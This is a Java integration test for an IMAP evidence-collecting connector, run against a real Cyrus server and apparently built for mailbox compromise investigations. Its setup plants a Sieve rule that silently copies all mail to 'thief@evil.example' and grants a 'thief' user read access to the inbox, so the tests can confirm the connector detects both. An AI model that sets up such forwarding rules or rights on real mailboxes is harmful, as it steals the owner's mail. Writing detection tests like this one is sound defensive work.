package org.mimawari.connector.imap;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.mimawari.connector.Checkpoints;
import org.mimawari.connector.CheckpointsInMemory;
import org.mimawari.connector.ConnectorException;
import org.mimawari.connector.Settings;
import org.mimawari.evidence.Coverage;
import org.mimawari.evidence.Delegation;
import org.mimawari.evidence.EvidenceKind;
import org.mimawari.evidence.MailboxRule;
import org.mimawari.evidence.NonDeliveryReport;
import org.mimawari.evidence.ReceivedMessage;
import org.mimawari.evidence.RuleTrait;
import org.mimawari.evidence.SentMessage;

/** Against a real Cyrus: attributes in lower case, rights and scripts of its own making, one user acting for another. */
@Tag("heavy")
@Timeout(60)
class CyrusTest {

    @TempDir
    static Path folder;

    private static Optional<CyrusServer> running = Optional.empty();

    @BeforeAll
    static void start() throws IOException {
        CyrusServer.assumePresent();
        Files.setPosixFilePermissions(folder, PosixFilePermissions.fromString("rwxr-xr-x"));
        CyrusServer server = CyrusServer.start(folder, List.of("info", "quiet", "thief"));
        running = Optional.of(server);
        client("thief").close();
        try (OrdinaryClient info = client("info")) {
            info.append("INBOX", "", DovecotTest.FAILURE);
            info.append("INBOX", "\\Seen", ScriptedServer.MESSAGE.replace("info@", "boss@") + "text\n");
            info.append("Sent", "\\Seen \\Answered", ScriptedServer.MESSAGE + "text\n");
            info.append("Trash", "\\Seen", ScriptedServer.MESSAGE.replace("<1@", "<2@") + "text\n");
            info.tell("SETACL INBOX thief lr");
        }
        try (OrdinaryClient sieve = OrdinaryClient.sieve(server.sieve(), server.authority(), "info", CyrusServer.PASSWORD)) {
            sieve.script("main", "require [\"copy\"];\r\nredirect :copy \"thief@evil.example\";\r\n");
        }
    }

    @AfterAll
    static void stop() {
        running.ifPresent(CyrusServer::close);
    }

    private static OrdinaryClient client(String name) throws IOException {
        CyrusServer server = running.orElseThrow();
        return OrdinaryClient.imap(server.imaps(), server.authority(), name, CyrusServer.PASSWORD);
    }

    private static CollectedEvidence collect(String mailbox, Map<String, List<String>> more) throws ConnectorException {
        return collect(mailbox, more, Checkpoints.NONE);
    }

    private static CollectedEvidence collect(String mailbox, Map<String, List<String>> more, Checkpoints checkpoints)
            throws ConnectorException {
        CyrusServer server = running.orElseThrow();
        Map<String, List<String>> values = new TreeMap<>(more);
        values.put("host", List.of("127.0.0.1"));
        values.put("port", List.of(String.valueOf(server.imaps())));
        values.put("sieve-port", List.of(String.valueOf(server.sieve())));
        values.put("ca", List.of(server.authority().toString()));
        values.put("mailboxes", List.of(mailbox));
        CollectedEvidence sink = new CollectedEvidence();
        new ImapConnectorFactory().connector(new Settings(values)).collect(sink, checkpoints);
        return sink;
    }

    private static final Map<String, List<String>> OWNER = Map.of("password", List.of(CyrusServer.PASSWORD));
    private static final Map<String, List<String>> MASTER = Map.of("master-user", List.of(CyrusServer.MASTER),
            "master-password", List.of(CyrusServer.MASTER_PASSWORD));

    private static void assertWhole(CollectedEvidence sink) {
        assertThat(sink.coverage).noneMatch(Coverage::isBroken);
        assertThat(sink.rejected).isEmpty();
        assertThat(sink.of(SentMessage.class)).extracting(sent -> sent.ref().source())
                .containsExactlyInAnyOrder("imap:127.0.0.1/info@shop.example/Sent", "imap:127.0.0.1/info@shop.example/Trash");
        assertThat(sink.of(NonDeliveryReport.class)).hasSize(1);
        assertThat(sink.of(ReceivedMessage.class)).hasSize(1);
        assertThat(sink.of(MailboxRule.class)).singleElement().satisfies(rule -> {
            assertThat(rule.actions().toString()).contains("thief@evil.example");
            assertThat(rule.traits()).doesNotContain(RuleTrait.INACTIVE_SCRIPT);
        });
    }

    @Test
    void theOwnersPasswordShowsMailRightsAndScripts() throws ConnectorException {
        CollectedEvidence sink = collect("info@shop.example", OWNER);
        assertWhole(sink);
        assertThat(sink.of(Delegation.class)).singleElement().satisfies(right -> {
            assertThat(right.grantee()).startsWith("thief");
            assertThat(right.rights()).contains("ReadItems");
        });
    }

    @Test
    void anAdministratorWhoActsForTheOwnerSeesTheSame() throws ConnectorException {
        assertWhole(collect("info@shop.example", MASTER));
    }

    @Test
    void aMailboxWithoutScriptsIsNoFailure() throws ConnectorException {
        CollectedEvidence sink = collect("quiet@shop.example", OWNER);
        assertThat(sink.coverage).noneMatch(Coverage::isBroken)
                .anyMatch(piece -> piece.kind() == EvidenceKind.MAILBOX_RULE && piece.state() == Coverage.State.COLLECTED);
    }

    @Test
    void aWrongPasswordEndsTheAccount() throws ConnectorException {
        CollectedEvidence sink = collect("info@shop.example", Map.of("password", List.of("wrong")));
        assertThat(sink.evidence).isEmpty();
        assertThat(sink.coverage).isNotEmpty().allMatch(Coverage::isBroken);
    }

    @Test
    void changesNoMessageNoFlagNoScript() throws ConnectorException, IOException {
        collect("info@shop.example", OWNER);
        List<String> flags = flags();
        Map<String, String> stored = running.orElseThrow().state();
        collect("info@shop.example", OWNER);
        collect("info@shop.example", MASTER);
        assertThat(running.orElseThrow().state()).isEqualTo(stored).hasSizeGreaterThan(5);
        assertThat(flags()).isEqualTo(flags).anyMatch(line -> line.contains("\\Answered"));
    }

    @Test
    void aLaterRoundReadsOnlyWhatWasAdded() throws ConnectorException, IOException {
        Checkpoints checkpoints = new CheckpointsInMemory();
        try (OrdinaryClient thief = client("thief")) {
            thief.append("Sent", "", ScriptedServer.MESSAGE + "text\n");
            assertThat(collect("thief@shop.example", OWNER, checkpoints).of(SentMessage.class)).hasSize(1);
            assertThat(collect("thief@shop.example", OWNER, checkpoints).of(SentMessage.class)).isEmpty();
            thief.append("Sent", "", ScriptedServer.MESSAGE.replace("<1@", "<9@") + "text\n");
            assertThat(collect("thief@shop.example", OWNER, checkpoints).of(SentMessage.class)).singleElement()
                    .satisfies(sent -> assertThat(sent.messageId()).contains("<9@shop.example>"));
        }
    }

    private static List<String> flags() throws IOException {
        List<String> all = new ArrayList<>();
        try (OrdinaryClient info = client("info")) {
            for (String name : List.of("INBOX", "Sent", "Trash")) {
                info.tell("EXAMINE " + name);
                all.addAll(info.tell("FETCH 1:* (UID FLAGS MODSEQ)"));
                all.addAll(info.tell("GETACL " + name));
            }
            all.addAll(info.tell("LSUB \"\" *"));
        }
        return all;
    }
}
